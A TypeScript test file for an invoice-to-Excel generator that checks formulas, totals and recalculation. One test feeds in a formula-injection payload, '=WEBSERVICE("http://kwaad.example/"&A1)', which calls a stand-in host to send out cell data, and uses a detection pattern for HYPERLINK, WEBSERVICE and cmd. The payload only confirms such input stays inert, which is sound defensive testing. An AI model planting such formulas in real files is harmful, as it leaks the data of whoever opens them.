import { describe, expect, test } from "bun:test"
import { openWorkbook } from "#src/documents/excel/testing.ts"
import { bare, credit, hostile, long, ordinary, receipt, shifted, twoRates } from "./document.testing.ts"
import type { InvoiceDocument } from "./document.ts"
import { makeInvoiceDocument } from "./documents.ts"

const open = async (invoice: InvoiceDocument) =>
  openWorkbook(await makeInvoiceDocument({ kind: "excel", invoice }))

const all: [name: string, invoice: InvoiceDocument][] = [
  ["an ordinary invoice", ordinary],
  ["one with the VAT shifted", shifted],
  ["a credit note", credit],
  ["a receipt, whose lines include VAT", receipt],
  ["one of two rates", twoRates],
  ["one of 300 lines whose sums are off", long],
  ["one of which hardly anything was read", bare],
  ["one with hostile texts", hostile],
]

describe("the formulas", () => {
  test.each(all)("give what the file remembers: %s", async (_, invoice) => {
    const sheets = await open(invoice)
    const wrong = sheets
      .formulas()
      .map((each) => ({ ...each, worked: sheets.value(each.sheet, each.address) }))
      .filter(({ cached, worked }) => (cached ?? "") !== (worked ?? ""))
    expect(wrong).toEqual([])
  })
})

test.each(all.slice(0, 5))("the lines come to the stated total: %s", async (_, invoice) => {
  const sheets = await open(invoice)
  const last = rowOf(
    sheets.sheet("Factuur"),
    invoice.reverseCharge ? "Totaal, btw verlegd" : "Totaal inclusief btw",
    4,
  )
  expect(sheets.value("Factuur", `F${last}`)).toBe(invoice.totalCents! / 100)
  expect(sheets.value("Factuur", `G${last}`)).toBe(invoice.totalCents! / 100)
  expect(sheets.value("Factuur", `H${last}`)).toBe(0)
  expect(sheets.value("Factuur", "B5")).toBe(invoice.totalCents! / 100)
})

test("another quantity gives another total, and the difference with what was stated", async () => {
  const sheets = await open(ordinary)
  sheets.set("Factuur", "B8", 641)
  const total = rowOf(sheets.sheet("Factuur"), "Totaal inclusief btw", 4)
  expect(sheets.value("Factuur", "F8")).toBe(1397.38)
  expect(sheets.value("Factuur", `F${total}`)).toBe(2239.93)
  expect(sheets.value("Factuur", `H${total}`)).toBe(2.64)
  expect(sheets.value("Factuur", "B5")).toBe(2239.93)
})

test("a line that isn't quantity times price keeps its own amount", async () => {
  const [line] = ordinary.lines
  const sheets = await open({ ...ordinary, lines: [{ ...line!, cents: 130_000 }] })
  expect(sheets.sheet("Factuur").getCell("F8").value).toBe(1300)
})

test("where lines and totals disagree the head has the stated total", async () => {
  const sheets = await open(long)
  expect(sheets.value("Factuur", "B5")).toBe(long.totalCents! / 100)
})

test("what begins as a formula stays text, and no other program is called", async () => {
  const sheets = await open(hostile)
  const sheet = sheets.sheet("Factuur")
  expect(sheet.getCell("A8").value).toBe('=WEBSERVICE("http://kwaad.example/"&A1)')
  expect(sheets.formulas().filter(({ formula }) => /HYPERLINK|WEBSERVICE|cmd/.test(formula))).toEqual([])
  expect(sheet.getCell("B5").numFmt).not.toContain("€")
})

function rowOf(
  sheet: { rowCount: number; getCell(row: number, column: number): { value: unknown } },
  label: string,
  column: number,
): number {
  for (let row = 1; row <= sheet.rowCount; row++) if (sheet.getCell(row, column).value === label) return row
  throw new Error(`no row ${label}`)
}
